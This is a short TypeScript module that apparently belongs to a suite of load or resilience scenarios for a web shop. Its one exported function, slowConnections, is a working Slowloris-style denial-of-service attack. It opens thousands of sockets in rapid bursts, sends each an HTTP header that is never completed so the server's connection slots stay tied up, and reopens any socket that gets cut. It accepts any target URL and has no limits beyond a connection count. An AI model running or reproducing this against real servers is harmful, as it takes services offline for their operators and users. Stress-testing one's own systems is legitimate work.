import { connect } from 'node:net';

const CONNECTIONS = 5200;
/** So many a millisecond: what the system lets one process open. */
const STEP = 20;

/** D9: connections of one address that send a part of a header and no more, opened again whenever they are cut. */
export async function slowConnections(shop: string): Promise<void> {
  const { hostname, port } = new URL(shop);
  const open = (): void => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.5.1' });
    socket.on('connect', () => socket.write('GET /about HTTP/1.1\r\nHost: shop.example.lk\r\nX-Slow: '));
    socket.on('error', () => socket.destroy());
    socket.on('close', () => setTimeout(open, 50));
    socket.resume();
  };
  let opened = 0;
  const timer = setInterval(() => {
    for (let nth = 0; nth < STEP && opened < CONNECTIONS; nth += 1, opened += 1) open();
    if (opened >= CONNECTIONS) clearInterval(timer);
  }, 1);
}
